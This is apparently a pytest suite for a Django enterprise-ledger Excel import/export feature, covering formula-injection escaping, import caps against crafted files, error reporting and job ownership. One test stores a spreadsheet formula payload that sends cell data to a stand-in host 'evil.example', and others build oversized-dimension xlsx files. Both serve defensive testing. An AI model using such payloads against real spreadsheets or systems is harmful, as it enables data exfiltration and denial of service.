"""Excel ledgers made safe, non-blocking and honest (issues 7.4–7.5, 8.14–8.15, 9).

Safe cells in exports, hard caps on reading, blank keeps / the clear marker clears, the page's
"C33 金属制品业", every problem of every row at once, confirming without the file, the template's
example row and drop-downs, a flat query budget, background export and import jobs of their owner.
"""

import datetime as dt
import io
import re
import time
import zipfile

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import translation
from openpyxl import Workbook, load_workbook

from anjian.core.audit import AuditEvent
from anjian.core.excel import CLEAR_MARKER, ImportFileError
from anjian.core.tasks import run_job
from anjian.enterprises.choices import EnterpriseStatus
from anjian.enterprises.ledger import EnterpriseLedger
from anjian.enterprises.models import Enterprise, Industry
from anjian.enterprises.testing import EnterpriseFactory, ParkFactory, make_uscc
from anjian.jobs.models import Job, JobStatus

pytestmark = pytest.mark.django_db


@pytest.fixture
def english(settings):
    """Messages in English (the source text), whatever the translations say."""
    settings.LANGUAGE_CODE = "en"
    with translation.override("en"):
        yield


IMPORT = "enterprises:enterprise_import"
LIST = "enterprises:enterprise_list"


def xlsx(rows, headers=None) -> io.BytesIO:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(headers or EnterpriseLedger().headers())
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    buffer.name = "enterprises.xlsx"
    return buffer


def row(name, uscc, region="东南村", industry="C39", **extra):
    values = {
        "name": name,
        "uscc": uscc,
        "region": region,
        "industry": industry,
        "status": "Operating",
        **extra,
    }
    return [values.get(c.field, "") for c in EnterpriseLedger.columns]


def export_sheet(client):
    response = client.get(reverse(LIST), {"export": "xlsx"})
    assert response.status_code == 200
    content = response.content
    return content, load_workbook(io.BytesIO(content)).active


# --- 7.4 safe to open -----------------------------------------------------------------------
def test_export_neutralises_formulas_and_drops_illegal_characters(world, client):
    inside = world.enterprises["inside"]
    Enterprise.objects.filter(pk=inside.pk).update(
        principal_name='=HYPERLINK("http://evil.example/?"&A1,"点我")',
        principal_title="@SUM(1+1)",
        safety_officer_name="-2+3",
        safety_officer_title="\tcmd",
        address="江海区\x0b东海路\x0112号",
    )
    client.force_login(world.users["subdistrict_officer"])
    content, sheet = export_sheet(client)
    headers = [c.value for c in sheet[1]]
    line = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == inside.name)
    cells = {headers[i]: cell for i, cell in enumerate(line)}
    ledger = EnterpriseLedger()
    header = {c.field: ledger.header(c) for c in ledger.columns}
    for field in ("principal_name", "principal_title", "safety_officer_name"):
        assert cells[header[field]].data_type == "s", field  # text, never a formula
        assert cells[header[field]].value.startswith("'"), field
    assert (
        cells[header["principal_name"]].value == '\'=HYPERLINK("http://evil.example/?"&A1,"点我")'
    )
    assert cells[header["safety_officer_title"]].value == "'\tcmd"
    assert cells[header["address"]].value == "江海区东海路12号"
    # No cell of the whole file is a formula.
    archive = zipfile.ZipFile(io.BytesIO(content))
    sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    # And the export imports back unchanged: the apostrophe comes off again.
    back = io.BytesIO(content)
    back.name = "export.xlsx"
    done = client.post(reverse(IMPORT), {"file": back, "confirm": "1"})
    assert done.status_code == 302
    inside.refresh_from_db()
    assert inside.principal_name.startswith("=HYPERLINK") and inside.safety_officer_name == "-2+3"
    assert inside.principal_title == "@SUM(1+1)"
    assert inside.address == "江海区东海路12号"  # what Excel cannot hold is gone for good


def test_every_dangerous_start_is_neutralised():
    from anjian.core.excel import safe_text, unsafe_text

    for text in ("=1+1", "+86 750", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert safe_text(text) == "'" + text and unsafe_text(safe_text(text)) == text
    assert safe_text("东海路\x0b12号\x00") == "东海路12号"
    assert safe_text("'quoted") == "'quoted" and unsafe_text("'quoted") == "'quoted"


# --- 8.15 a ledger people read ------------------------------------------------------------------
def test_export_reads_like_a_ledger(world, client):
    inside = world.enterprises["inside"]
    Enterprise.objects.filter(pk=inside.pk).update(
        last_inspected_on=dt.date(2024, 2, 29), risk_grade="B"
    )
    client.force_login(world.users["subdistrict_officer"])
    _content, sheet = export_sheet(client)
    headers = [c.value for c in sheet[1]]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref.startswith("A1:")
    line = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == inside.name)
    cells = dict(zip(headers, line, strict=False))
    ledger = EnterpriseLedger()
    header = {c.field: ledger.header(c) for c in ledger.columns}
    assert cells[header["region"]].value == "440704003001 东南村"
    assert cells[header["industry"]].value == "C39 计算机、通信和其他电子设备制造业"
    assert cells[header["last_inspected_on"]].is_date
    assert cells[header["last_inspected_on"]].value.date() == dt.date(2024, 2, 29)
    due = cells[headers[-1]]
    assert due.is_date and due.value.date() > dt.date(2024, 2, 29)


# --- 7.5 reading that cannot stall ----------------------------------------------------------
def _with_sheet_xml(content: bytes, edit) -> io.BytesIO:
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = edit(data.decode()).encode()
            target.writestr(info, data)
    out.seek(0)
    out.name = "crafted.xlsx"
    return out


def test_huge_declared_dimension_is_not_trusted(world):
    content = xlsx([row("尺寸声明有限公司", make_uscc())]).getvalue()
    crafted = _with_sheet_xml(
        content,
        lambda xml: re.sub(r'<dimension ref="[^"]*"', '<dimension ref="A1:XFD1048576"', xml),
    )
    assert len(crafted.getvalue()) < 10_000
    started = time.monotonic()
    parsed = EnterpriseLedger().read(crafted)
    assert time.monotonic() - started < 2
    assert [values["name"] for _n, values in parsed] == ["尺寸声明有限公司"]


def test_a_far_away_cell_is_refused_quickly_with_a_clear_error(world, settings):
    settings.IMPORT_MAX_ROWS = 10000
    content = xlsx([row("远处单元格有限公司", make_uscc())]).getvalue()
    far = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    crafted = _with_sheet_xml(
        content,
        lambda xml: re.sub(
            r'<dimension ref="[^"]*"', '<dimension ref="A1:XFD1048576"', xml
        ).replace("</sheetData>", far + "</sheetData>"),
    )
    started = time.monotonic()
    with pytest.raises(ImportFileError, match="20001"):
        EnterpriseLedger().read(crafted)
    assert time.monotonic() - started < 3


def test_row_cap_is_a_setting(world, client, settings):
    settings.IMPORT_MAX_ROWS = 2
    client.force_login(world.users["subdistrict_officer"])
    upload = xlsx([row(f"上限测试{i}有限公司", make_uscc()) for i in range(3)])
    response = client.post(reverse(IMPORT), {"file": upload})
    assert response.status_code == 400
    assert "2" in response.context["file_error"]


def test_preview_holds_no_transaction(world, client, monkeypatch):
    """The check runs outside any transaction, so another user's save never waits for it."""
    from anjian.core import excel

    seen = []
    original = excel.Ledger.import_row
    outer = len(connection.atomic_blocks)  # the test's own transaction

    def spy(self, row, ctx):
        seen.append(len(connection.atomic_blocks) > outer)
        return original(self, row, ctx)

    monkeypatch.setattr(excel.Ledger, "import_row", spy)
    client.force_login(world.users["subdistrict_officer"])
    response = client.post(reverse(IMPORT), {"file": xlsx([row("无锁有限公司", make_uscc())])})
    assert response.status_code == 200
    assert seen == [False]


# --- 8.14 honest imports ----------------------------------------------------------------------
def test_blank_keeps_the_stored_value_and_the_marker_clears(world, client):
    inside = world.enterprises["inside"]
    park = ParkFactory(name="东南工业园", region=world.regions["village"])
    Enterprise.objects.filter(pk=inside.pk).update(
        park=park, grid=world.regions["grid"], principal_phone="13800000000"
    )
    client.force_login(world.users["subdistrict_officer"])
    # Only name, USCC and the principal's phone filled; the phone is cleared with the marker.
    upload = xlsx([row(inside.name, inside.uscc, region="", industry="", principal_phone="<清空>")])
    preview = client.post(reverse(IMPORT), {"file": upload})
    assert preview.status_code == 200, preview.context.get("preview")
    changes = preview.context["preview"].changed_rows[0].changes
    assert [c[0] for c in changes] == ["principal's phone"] or len(changes) == 1
    assert changes[0][1:] == ["13800000000", ""]
    job = preview.context["job"]
    done = client.post(reverse(IMPORT), {"job": str(job.pk)})
    assert done.status_code == 302
    inside.refresh_from_db()
    assert inside.park == park and inside.grid == world.regions["grid"]
    assert inside.service_agency == world.organizations["agency"]
    assert inside.region == world.regions["village"]
    assert inside.principal_phone == ""


def test_industry_as_the_page_shows_it_is_accepted(world, client):
    Industry.objects.update_or_create(code="C33", defaults={"name": "金属制品业"})
    client.force_login(world.users["subdistrict_officer"])
    uscc = make_uscc()
    upload = xlsx(
        [
            row(
                "江门市金属制品有限公司",
                uscc,
                region="440704003001 东南村",
                industry="C33 金属制品业",
            )
        ]
    )
    done = client.post(reverse(IMPORT), {"file": upload, "confirm": "1"})
    assert done.status_code == 302
    created = Enterprise.objects.get(uscc=uscc)
    assert created.industry.code == "C33" and created.region == world.regions["village"]


def test_every_problem_of_every_row_at_once(world, client, english):
    client.force_login(world.users["subdistrict_officer"])
    valid = make_uscc()
    wrong_digit = valid[:-1] + ("Y" if valid[-1] != "Y" else "X")
    upload = xlsx(
        [
            row("一行三错有限公司", wrong_digit, region="不存在村", industry="Z99"),
            row("员工数错误有限公司", make_uscc(), employee_count="很多"),
        ]
    )
    response = client.post(reverse(IMPORT), {"file": upload})
    assert response.status_code == 422
    bad = {r.number: r.errors for r in response.context["preview"].bad_rows}
    assert set(bad) == {2, 3}
    text = " ".join(bad[2])
    assert "不存在村" in text and "Z99" in text and "unified social credit code" in text
    assert any("employees" in e.lower() for e in bad[3])
    # The error report: the bad rows as they were, with their problems.
    job = response.context["job"]
    report = client.get(reverse("jobs:job_errors", args=[job.pk]))
    sheet = load_workbook(io.BytesIO(report.content)).active
    lines = list(sheet.iter_rows(values_only=True))
    assert [line[0] for line in lines[1:]] == [2, 3]
    assert "不存在村" in lines[1][1] and lines[1][2] == "一行三错有限公司"


def test_confirm_needs_no_file_and_only_its_owner_may(world, client):
    client.force_login(world.users["subdistrict_officer"])
    uscc = make_uscc()
    preview = client.post(reverse(IMPORT), {"file": xlsx([row("确认无需文件有限公司", uscc)])})
    job = preview.context["job"]
    assert job.status == JobStatus.CHECKED and not Enterprise.objects.filter(uscc=uscc).exists()
    assert AuditEvent.objects.filter(action="enterprises.enterprise.import_previewed").exists()
    # Another user, who may import enterprises there too, cannot confirm (or see) it.
    client.force_login(world.users["regulator"])
    refused = client.post(reverse(IMPORT), {"job": str(job.pk)})
    assert refused.status_code == 410
    assert client.get(reverse(IMPORT), {"job": str(job.pk)}).status_code == 404
    assert not Enterprise.objects.filter(uscc=uscc).exists()
    client.force_login(world.users["subdistrict_officer"])
    done = client.post(reverse(IMPORT), {"job": str(job.pk)})
    assert done.status_code == 302
    assert Enterprise.objects.filter(uscc=uscc).exists()
    assert AuditEvent.objects.filter(action="enterprises.enterprise.imported").exists()
    again = client.post(reverse(IMPORT), {"job": str(job.pk)})
    assert again.status_code == 410  # written once, not twice


def test_template_has_an_example_row_and_drop_downs(world, client):
    client.force_login(world.users["subdistrict_officer"])
    response = client.get(reverse("enterprises:enterprise_import_template"))
    workbook = load_workbook(io.BytesIO(response.content))
    sheet = workbook.worksheets[0]
    ledger = EnterpriseLedger()
    assert [c.value for c in sheet[1]] == ledger.headers()
    example = [c.value for c in sheet[2]]
    assert example[0] == "江门市示例五金制品有限公司" and "C33 金属制品业" in example
    validations = sheet.data_validations.dataValidation
    status_letter = "G"  # the status column
    status = next(v for v in validations if str(v.sqref).startswith(f"{status_letter}2"))
    assert status.type == "list"
    sheet_name, cells = status.formula1.lstrip("=").split("!")
    options = [c.value for row in workbook[sheet_name][cells.replace("$", "")] for c in row]
    assert str(EnterpriseStatus.OPERATING.label) in options and str(CLEAR_MARKER) in options
    # The example row left in is skipped, not imported.
    back = io.BytesIO(response.content)
    back.name = "template.xlsx"
    with pytest.raises(ImportFileError):
        ledger.read(back)


def test_preview_queries_stay_flat(world, settings):
    settings.EXCEL_BACKGROUND_ROWS = 10000
    user = world.users["subdistrict_officer"]
    landlord = EnterpriseFactory(name="房东有限公司", region=world.regions["village"])
    ParkFactory(name="东南工业园", region=world.regions["village"])
    ledger = EnterpriseLedger(user=user)
    upload = xlsx(
        [
            row(
                f"查询预算{i}有限公司",
                make_uscc(),
                region="440704003001 东南村",
                grid="东南村第一网格",
                landlord=landlord.uscc,
                park="东南工业园",
            )
            for i in range(200)
        ]
    )
    parsed = ledger.read(upload)
    user = type(user).objects.get(pk=user.pk)  # a fresh user: permissions and jurisdiction loaded
    with CaptureQueriesContext(connection) as queries:
        result = ledger.check(parsed, user)
    assert result.ok, result.bad_rows[:1] and result.bad_rows[0].errors
    assert len(queries) <= 20, [q["sql"][:120] for q in queries.captured_queries]


def test_background_export_produces_the_file_for_its_owner(world, client, settings):
    settings.EXCEL_BACKGROUND_ROWS = 1
    EnterpriseFactory(name="第二家有限公司", region=world.regions["village"])
    client.force_login(world.users["subdistrict_officer"])
    response = client.get(reverse(LIST), {"export": "xlsx"})
    assert response.status_code == 302
    job = Job.objects.get()
    assert response["Location"] == reverse("jobs:job_detail", args=[job.pk])
    progress = client.get(response["Location"])
    assert progress.status_code == 200 and "job-progress" in progress.content.decode()
    run_job(job.pk, language="zh-hans")
    job.refresh_from_db()
    assert job.status == JobStatus.DONE and job.total == 2
    download = client.get(reverse("jobs:job_download", args=[job.pk]))
    sheet = load_workbook(io.BytesIO(b"".join(download.streaming_content))).active
    assert {r[0] for r in sheet.iter_rows(min_row=2, values_only=True)} == {
        "江门市恒亦达电子有限公司",
        "第二家有限公司",
    }
    assert AuditEvent.objects.filter(action="enterprises.enterprise.export_downloaded").exists()
    client.force_login(world.users["regulator"])
    assert client.get(reverse("jobs:job_download", args=[job.pk])).status_code == 404
    job.file.delete(save=False)


def test_background_import_checks_then_commits(world, client, settings):
    settings.EXCEL_BACKGROUND_ROWS = 1
    client.force_login(world.users["subdistrict_officer"])
    usccs = [make_uscc(), make_uscc()]
    upload = xlsx([row(f"后台导入{i}有限公司", u) for i, u in enumerate(usccs)])
    response = client.post(reverse(IMPORT), {"file": upload})
    assert response.status_code == 302
    job = Job.objects.get()
    page = client.get(response["Location"])
    assert "job-progress" in page.content.decode()
    run_job(job.pk)
    job.refresh_from_db()
    assert job.status == JobStatus.CHECKED
    assert client.get(response["Location"]).context["preview"].summary["created"] == 2
    confirm = client.post(reverse(IMPORT), {"job": str(job.pk)})
    assert confirm.status_code == 302
    run_job(job.pk)
    job.refresh_from_db()
    assert job.status == JobStatus.DONE
    assert Enterprise.objects.filter(uscc__in=usccs).count() == 2


def test_expired_jobs_are_pruned_with_their_files(world, settings, tmp_path):
    import datetime as dt

    from django.core.files.base import ContentFile
    from django.core.management import call_command
    from django.utils import timezone

    settings.MEDIA_ROOT = tmp_path
    owner = world.users["subdistrict_officer"]
    old = Job.objects.create(owner=owner, kind="export", model="enterprises.enterprise")
    old.file.save("old.xlsx", ContentFile(b"x"))
    path = old.file.path
    Job.objects.filter(pk=old.pk).update(expires_at=timezone.now() - dt.timedelta(minutes=1))
    fresh = Job.objects.create(owner=owner, kind="export", model="enterprises.enterprise")
    assert not Job.objects.for_owner(owner).filter(pk=old.pk).exists()  # expired: gone for them
    call_command("prune_jobs")
    assert list(Job.objects.values_list("pk", flat=True)) == [fresh.pk]
    assert not (tmp_path / path).exists()
